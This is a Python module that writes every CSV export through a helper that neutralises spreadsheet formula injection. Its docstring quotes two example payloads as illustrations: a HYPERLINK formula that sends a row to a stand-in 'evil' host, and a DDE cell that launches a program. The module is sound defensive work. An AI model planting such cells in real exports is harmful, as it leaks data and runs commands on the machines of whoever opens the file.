"""The one way the product writes CSV: every cell safe to open in a spreadsheet.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage
return before one) as a formula: ``=HYPERLINK("http://evil/?"&A1, "click")`` sends the row
away, ``+cmd|' /C calc'!A0`` asks to run a program. Contacts, opt-out notes, uploaded
files' own columns and provider error texts all come from outside, so every CSV we write
(exports, the import's row report) goes through ``csv_writer``, which puts an apostrophe
in front of such a cell (OWASP's advice; a spreadsheet shows the text as written). Plain
numbers, phone numbers such as ``+447911123456`` or ``-12`` included, stay as they are.
A test fails if a ``csv.writer`` appears anywhere else in the product.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, Protocol

_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?[0-9][0-9 ().-]*")


def safe_cell(value: Any) -> Any:
    """``value`` as a CSV cell that no spreadsheet runs as a formula (dates as ISO 8601)."""
    if value is None:
        return ""
    if hasattr(value, "isoformat"):
        return value.isoformat()
    if isinstance(value, str):
        head = value.lstrip(" ")
        if head[:1] in _TRIGGERS and not _NUMBER.fullmatch(head):
            return "'" + value
    return value


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


class SafeWriter:
    """``csv.writer`` with every cell passed through ``safe_cell``."""

    def __init__(self, file: _Writable, **options: Any) -> None:
        self._writer = csv.writer(file, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(file: _Writable, **options: Any) -> SafeWriter:
    """A CSV writer for ``file`` (options as for ``csv.writer``) that neutralises formulas."""
    return SafeWriter(file, **options)
